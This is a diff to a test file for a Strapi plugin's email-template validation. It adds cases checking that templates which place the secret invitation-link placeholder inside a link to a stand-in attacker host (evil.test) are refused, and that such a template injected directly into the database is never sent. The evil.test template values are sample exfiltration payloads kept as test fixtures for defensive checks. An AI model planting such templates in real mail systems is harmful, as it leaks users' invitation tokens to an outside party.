@@ -66,6 +66,10 @@ it.each([
   ['text', '{{password}}'],
   ['text', '{{#link}}'],
   ['subject', 'Your link {{link}}'],
+  ['html', '<a href="https://evil.test/?{{link}}">Come in</a>'],
+  ['html', '<p>Come in</p>'],
+  ['text', 'https://evil.test/?{{link}}'],
+  ['text', 'Come in'],
 ])('refuses %s: %s, and keeps what was there', async (field, value) => {
   for (const answer of [
     await write({ ...OWN, [field]: value }),
@@ -76,6 +80,48 @@ it.each([
     expect(answer.body.error.details.errors).toMatchObject([{ path: [field] }]);
   }
   expect((await read()).isDefault).toBe(true);
+});
+
+it('says which placeholder is missing or in the wrong place, for clients to put into words', async () => {
+  const { body } = await write({ ...OWN, html: '<img src="{{link}}">', text: 'Come in' });
+
+  expect(body.error.details).toMatchObject({
+    code: 'INVALID_TEMPLATE',
+    reason: 'template-secret-place',
+    errors: [
+      { path: ['html'], reason: 'template-secret-place', values: { placeholder: '{{link}}' } },
+      { path: ['text'], reason: 'template-needs', values: { placeholder: '{{link}}' } },
+    ],
+  });
+  expect(await read()).toMatchObject({ needed: ['link'] });
+  expect(await read('locked')).toMatchObject({ needed: [] });
+});
+
+it('that was saved before it broke a rule is shown, and not sent', async () => {
+  succeed(await write());
+  const html = '<a href="https://evil.test/?{{link}}">Come in</a>';
+  await sql('UPDATE ?? SET ?? = ? WHERE ?? = ?', [
+    'gatehouse_mail_templates',
+    'html',
+    html,
+    'name',
+    'invitation',
+  ]);
+  expect(await read()).toMatchObject({ html, isDefault: false, isInForce: false });
+  const user = await aUser({ firstname: 'Ada' });
+
+  await deliver(await invite(user));
+
+  const mail = await nextMailTo(user.email);
+  expect(mail.subject).not.toBe('Come in, Ada');
+  expect(JSON.stringify(mail)).not.toContain('evil.test');
+  const { lines } = await shared.call<{ lines: string[] }>(
+    `strapi.plugin('gatehouse').service('mailTemplates').notInForce().then((lines) => ({ lines }))`,
+  );
+  expect(lines).toEqual(['invitation']);
+  succeed(await write());
+  expect(await read()).toMatchObject({ isInForce: true });
+  succeed(await gatehouse.delete('/mail-templates/invitation'));
 });
 
 it('refuses a subject of two lines, and texts that are too long or none', async () => {
